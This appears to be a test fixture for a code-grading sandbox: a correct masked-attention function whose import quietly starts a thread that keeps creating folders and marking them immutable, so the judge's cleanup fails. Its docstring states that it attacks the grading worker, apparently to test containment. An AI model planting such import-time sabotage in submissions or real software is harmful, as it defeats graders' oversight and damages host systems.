"""A right attention whose import starts a thread that, for as long as the process lives, keeps
making folders in its temporary folder and setting the immutable attribute on each (root may),
so that the judge's removal, which runs while the worker is being killed, races it and may meet
a folder it has not seen or cannot remove."""
KATA = "masked_attention"
ROUTE = "dojo test"  # an attack on the worker, contained by the same code whichever route calls it
PASSES = True  # a right answer: its folder is removed all the same

import fcntl
import os
import struct
import threading

import numpy as np

_SETFLAGS = 0x40086602
_IMMUTABLE = 0x00000010


def _lock_forever():
    here = os.getcwd()
    i = 0
    while True:
        i += 1
        path = os.path.join(here, f"d{i % 50}", f"e{i}")
        try:
            os.makedirs(path, exist_ok=True)
            with open(os.path.join(path, "f"), "w") as f:
                f.write("x")
            for p in (path, os.path.dirname(path)):
                fd = os.open(p, os.O_RDONLY | os.O_DIRECTORY)
                try:
                    fcntl.ioctl(fd, _SETFLAGS, struct.pack("i", _IMMUTABLE))
                finally:
                    os.close(fd)
        except OSError:
            pass


threading.Thread(target=_lock_forever, daemon=True).start()


def scaled_dot_product_attention(q, k, v, mask=None):
    q, k, v = (np.asarray(a, dtype=np.float64) for a in (q, k, v))
    for a in (q, k, v):
        if a.ndim != 2 or 0 in a.shape or not np.isfinite(a).all():
            raise ValueError("q, k and v must be finite, 2-D and non-empty")
    n, d = q.shape
    m = k.shape[0]
    if k.shape[1] != d or v.shape[0] != m:
        raise ValueError("shapes do not match")
    allowed = np.ones((n, m), bool) if mask is None else np.asarray(mask)
    if allowed.dtype != bool or allowed.shape != (n, m):
        raise ValueError("mask must be bool of shape (n, m)")
    if not allowed.any(axis=1).all():
        raise ValueError("a query row has no allowed key")
    with np.errstate(over="ignore", invalid="ignore"):
        s = q @ k.T / np.sqrt(d)
    if not np.isfinite(s[allowed]).all():
        raise ValueError("a score overflowed")
    s = np.where(allowed, s, -np.inf)
    w = np.exp(s - s.max(axis=1, keepdims=True))
    w /= w.sum(axis=1, keepdims=True)
    return w @ v, w
